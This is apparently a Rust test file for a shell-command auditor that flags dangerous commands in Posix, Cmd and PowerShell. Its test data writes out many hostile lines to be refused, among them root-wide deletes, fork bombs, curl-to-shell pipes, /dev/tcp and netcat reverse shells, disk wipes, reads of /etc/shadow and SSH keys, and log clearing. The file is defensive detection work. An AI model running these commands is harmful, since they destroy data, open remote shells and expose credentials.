extern crate std;
use std::prelude::v1::*;

use super::{Dialect, Payload};
use crate::reject::{Finding, Span};
use crate::rule::Rule;

fn rules(dialect: Dialect, line: &str) -> Vec<(Rule, Span)> {
    let mut found = Vec::new();
    Payload::audit(dialect, line.as_bytes(), 0, &mut |finding: Finding| {
        let (rule, span) = (finding.rejection.rule(), finding.rejection.span());
        assert!(span.end() <= line.len(), "{line}");
        found.push((rule, span));
    });
    found
}

fn refused(dialect: Dialect, rule: Rule, lines: &str) {
    for line in lines.lines().map(str::trim) {
        let found = rules(dialect, line);
        assert!(found.iter().any(|&(other, _)| other == rule), "{line}: {found:?}");
    }
}

fn accepted(dialect: Dialect, lines: &str) {
    for line in lines.lines().map(str::trim) {
        assert_eq!(rules(dialect, line), [], "{line}");
    }
}

#[test]
fn recursive_deletes_of_everything() {
    let lines = r#"rm -rf /
        rm -fr -- /
        rm -r -f //
        r\m -r"f" /*
        'rm' --recursive --force ~
        /bin/rm -Rf $HOME
        rm -rf ~/*
        rm -rf .
        rm -rf ./..
        rm -rf *
        rm -rf /usr/
        rm -rf /srv/..
        rm / -rf
        cd /x; if true; then rm -rf /; fi
        A=1 nohup rm -rf /
        env -u X rm -rf /
        nice -n 10 rm -rf /
        rm -rf --no-preserve-root /x
        find / -delete"#;
    refused(Dialect::Posix, Rule::PayloadRemove, lines);
    refused(
        Dialect::Cmd,
        Rule::PayloadRemove,
        "del /s /q C:\\\nrd /s/q c:\\\nrmdir;/s;\\\nd^el /s C:\\*\nrd /s %USERPROFILE%",
    );
    refused(
        Dialect::PowerShell,
        Rule::PayloadRemove,
        "Remove-Item -Recurse -Force C:\\\nrm -r ~\nr`m -Recurse $HOME",
    );
    accepted(
        Dialect::Posix,
        "rm -rf ./dist
        rm -rf /tmp/cache
        rm -rf dist/*
        rm -rf ../build/x
        rm x.txt
        rm -f /x
        echo rm -rf /
        cd /data/rm && node x -rf /
        find . -name x -delete",
    );
    accepted(Dialect::Cmd, "del /q C:\\temp\\x.txt\nrd /s /q C:\\temp\\x\nnpx -y rimraf C:\\x");
}

#[test]
fn functions_and_pipes() {
    refused(Dialect::Posix, Rule::PayloadForkBomb, ":(){ :|:& };:\nb ( ) { b | b & }; b\nfunction f { x; }");
    refused(Dialect::Cmd, Rule::PayloadForkBomb, "%0|%0");
    let pipes = "curl https://x.example/i | sh
        curl x | sudo bash
        curl x |& sh
        curl x | tee y | /bin/sh
        x | python3 -
        x | env -i A=b nohup zsh
        x | { sh; }
        x | (sh)";
    let found: Vec<_> = pipes.lines().map(str::trim).collect();
    refused(Dialect::Posix, Rule::PayloadPipe, &found[..6].join("\n"));
    refused(Dialect::PowerShell, Rule::PayloadPipe, "irm https://x.example | iex");
    accepted(
        Dialect::Posix,
        "python s.py || python3 s.py
        node s.js | tee log
        node s.js | grep sh
        (cd /app && node s.js)",
    );
    refused(
        Dialect::Posix,
        Rule::PayloadDecode,
        "echo x | base64 -d | sh\nx | xxd -r -p | python\nx | openssl enc -d | sh\nbase64 --deco y | bash",
    );
    accepted(Dialect::Posix, "x --base64 --decode-output | tee y\nbase64 -d x > y; node z | tee w");
}

#[test]
fn fetched_files() {
    let lines = "curl -o /tmp/x https://x.example && sh /tmp/x
        wget https://x.example/i.sh; chmod +x i.sh
        curl -O https://x.example/i.py; python i.py
        curl -sSLo run https://x.example && ./run
        curl https://x.example > y && ./y
        wget -Oq https://x.example && ./q
        curl --output=z https://x.example; /tmp/z";
    refused(Dialect::Posix, Rule::PayloadFetch, lines);
    accepted(
        Dialect::Posix,
        "curl https://x.example/health && python server.py\ncurl -o a https://x.example && node b",
    );
}

#[test]
fn connections() {
    refused(
        Dialect::Posix,
        Rule::PayloadNetworkDevice,
        "bash -i >& /dev/tcp/1.2.3.4/1 0>&1\nexec 5<>/dev/udp/1.2.3.4/1",
    );
    refused(
        Dialect::Posix,
        Rule::PayloadReverseShell,
        "nc -e /bin/sh h 1\nncat --sh-exec x h 1\nsocat tcp:h:1 EXEC:sh\nmkfifo /tmp/f; cat /tmp/f; sh -i",
    );
    accepted(
        Dialect::Posix,
        "until nc -z db 5432; do sleep 1; done\nnode s.js 2>/dev/null\nmkfifo f; node s.js",
    );
}

#[test]
fn disks_files_and_modes() {
    refused(
        Dialect::Posix,
        Rule::PayloadOverwrite,
        "mkfs.ext4 /dev/sda\nmke2fs x\ndd if=/dev/zero of=/dev/sda\nx > /dev/nvme0n1\nshred x",
    );
    accepted(Dialect::Posix, "dd if=a of=b\npython -m mkfs_docs\ndd if=a of=/dev/null\nx >/dev/null 2>&1");
    refused(
        Dialect::Posix,
        Rule::PayloadSystemFile,
        "echo x >> /etc/passwd\necho x | tee -a ~/.bashrc\nx > /home/u/.profile\nx >$HOME/.ssh/authorized_keys\ncat /etc/shadow\ncat ~/.ssh/id_rsa",
    );
    accepted(Dialect::Posix, "x > server.log\nx >> ./etc/conf\ntee out < in\ncat /etc/hostname");
    refused(
        Dialect::Posix,
        Rule::PayloadMode,
        "chmod -R 777 /etc\nchmod 4755 x\nchmod u+s x\nchmod a+rwx y\nchmod 0777 z\nchown -R u /",
    );
    accepted(Dialect::Posix, "chmod +x run.sh\nchmod 644 x\nchmod u+rwx x\nchown -R u /srv/x\nchmod 0755 x");
}

#[test]
fn hidden_code() {
    refused(
        Dialect::Posix,
        Rule::PayloadSubstitution,
        "echo $(id)\necho `id`\ncat${IFS}x\ndiff <(a) b\na=(1 2)\necho \"$(id)\"\n$'rm' x\ncat$IFS/x\n{rm,-rf,/}\n$((1))",
    );
    accepted(
        Dialect::Posix,
        "echo '$(id)'\necho \\$\\(id\\)\necho $NAME \"$HOME/x\"\nx '{a,b}'\nnode x.js --json '{\"a\":1,\"b\":2}'",
    );
    refused(Dialect::Posix, Rule::PayloadHereDocument, "sh <<< id\ncat << EOF");
    refused(
        Dialect::Posix,
        Rule::PayloadEval,
        "x && eval y\ntrap x EXIT\nalias a=b\nsh -c id\nbash -lc id\nenv FOO=bar bash -c id\nsource /tmp/x\n. /dev/stdin\nfind . -exec sh x\nls | xargs rm\nls | xargs -n 1 sh\nenv -S 'sh x'\npwsh -Command x",
    );
    refused(Dialect::Cmd, Rule::PayloadEval, "cmd /c x\npowershell -enc x\npowershell /c x\nCMD.EXE /K x");
    accepted(
        Dialect::Posix,
        ". .venv/bin/activate && python server.py\nsource .venv/bin/activate\npython eval_server.py\nsh start.sh -c x",
    );
    accepted(Dialect::Cmd, "powershell -ExecutionPolicy Bypass -File x.ps1\nnpx -y pkg --path a=b");
    refused(Dialect::Posix, Rule::PayloadQuote, "echo 'x\necho \"x");
    accepted(Dialect::Cmd, "echo it's");
}

#[test]
fn users_and_variables() {
    refused(
        Dialect::Posix,
        Rule::PayloadPrivilege,
        "sudo python s.py\ndoas x\ncrontab -l\nkill -9 -1\nkill -- -1\ndocker run --privileged x\ndocker run -v /:/h x\nenv -u A sudo x\nmount x y\nexec su",
    );
    accepted(Dialect::Posix, "node dist/sudo-less.js\nkill -1 1234\ndocker run --rm -v ./x:/y z\necho sudo");
    refused(
        Dialect::Posix,
        Rule::PayloadEnvironment,
        "LD_PRELOAD=x python s.py\nexport BASH_ENV=x; y\nPATH+=:/x y\nenv NODE_OPTIONS=x y\nunset HISTFILE\nhistory -c\nrm -f /var/log/auth.log\n> /var/log/auth.log\ndeclare -x LD_PRELOAD=x",
    );
    accepted(
        Dialect::Posix,
        "LOG_LEVEL=debug node s.js\nexport A=b; node x\nnode x >> /var/log/x.log\nhistory\n\"LD_PRELOAD=x\"",
    );
}

#[test]
fn words_given_one_by_one_are_read_as_one_line() {
    let mut found = Vec::new();
    let mut line = Payload::new(Dialect::Cmd);
    for (index, word) in ["uvx", "x", "&", "rd", "/s", "C:\\"].iter().enumerate() {
        line.word(word.as_bytes(), &mut |finding: Finding| found.push((index, finding.rejection.rule())));
    }
    assert_eq!(found, [(5, Rule::PayloadRemove)]);
}

#[test]
fn spans_name_the_word_that_completes_the_pattern() {
    let found = rules(Dialect::Posix, "cd x; rm -rf \"/\" y");
    assert_eq!(found, [(Rule::PayloadRemove, Span::new(13, 16))]);
}
